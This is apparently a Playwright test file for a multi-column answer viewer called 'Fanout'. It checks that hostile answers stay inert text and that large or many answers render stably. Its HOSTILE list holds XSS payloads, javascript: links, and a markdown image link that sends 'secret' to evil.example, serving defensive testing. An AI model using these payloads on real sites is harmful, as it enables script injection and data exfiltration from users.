"""Answers that would do harm if they became anything but text."""

from __future__ import annotations

import pytest

from tests.support.browser import Visit

pytestmark = pytest.mark.asyncio(loop_scope="session")
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><style>*{display:none}</style>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "[click](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>",
    "![secret](https://evil.example/?q=secret) [link](https://evil.example/?q=secret)",
    "safe \u202eesrever\u202c \u2066isolate\u2069 \u200fright",
    "\x1b[31mred\x1b[0m \x07 \x08 ${7*7} {{7*7}} %s",
    "مرحبا بالعالم שלום עולם",
)


async def test_hostile_answers_stay_text(visitor: Visit) -> None:
    """Also as labels of columns, as markdown, as differences, and from the history."""
    await visitor.run(*(f"up/say-{text}" for text in HOSTILE))
    await visitor.wait_for_states(*["done"] * len(HOSTILE))
    page = visitor.page
    await visitor.wait_for_texts(list(HOSTILE))
    await check_elements(visitor)

    await page.click("text=Markdown")
    await page.wait_for_selector(".markdown p")
    await check_elements(visitor)
    assert "https://evil.example/?q=secret" in await page.inner_text(".column:nth-child(6) .markdown"), (
        "a link shows its target"
    )
    await page.click(".column:nth-child(1) >> text=Differences")
    await page.wait_for_selector(".difference ins")
    await check_elements(visitor)

    await page.reload()
    await visitor.wait_for_states(*["done"] * len(HOSTILE))
    await check_elements(visitor)
    assert await page.title() == "Fanout"


async def check_elements(visitor: Visit) -> None:
    """Nothing that loads, runs or leads elsewhere stands among the answers. The visit fails on dialogs and requests."""
    assert await visitor.page.locator(".columns :is(script, img, svg, style, iframe, a, object, link, form)").count() == 0


async def test_an_answer_of_a_megabyte_without_a_space_is_shown_whole(visitor: Visit) -> None:
    await visitor.run("up/mb-1-chunks-1", "ok")
    await visitor.wait_for_states("done", "done")

    sizes = await visitor.page.eval_on_selector_all(".column .text", "boxes => boxes.map(box => box.textContent.length)")
    assert sizes[0] >= 1_000_000
    box = await visitor.page.locator(".column .text").first.evaluate("box => [box.scrollWidth, box.clientWidth]")
    assert box[0] <= box[1], "it does not make its column wider"


async def test_sixteen_columns_answer_at_once_and_nothing_moves(visitor: Visit) -> None:
    # Of the columns: their first appearance follows the click, which the browser does not count.
    script = """window.moved = []; new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) if (!entry.hadRecentInput) window.moved.push(entry.value);
    }).observe({ type: 'layout-shift', buffered: true });"""
    await visitor.page.add_init_script(script)
    await visitor.run(*(f"up/chunks-20-gap-0.01-input-{number}" for number in range(16)))
    await visitor.wait_for_states(*["done"] * 16)

    await visitor.wait_for_texts(["".join(f"w{number} " for number in range(20))] * 16)
    assert sum(await visitor.page.evaluate("window.moved")) < 0.01


async def test_a_tab_in_the_background_catches_up(visitor: Visit) -> None:
    await visitor.run("up/chunks-30-gap-0.02")
    other = await visitor.page.context.new_page()
    await other.bring_to_front()
    await visitor.wait_for_states("done")
    await visitor.page.bring_to_front()
    await visitor.wait_until("document.querySelector('.text').textContent.includes('w29')")

    await visitor.wait_for_texts(["".join(f"w{number} " for number in range(30))])
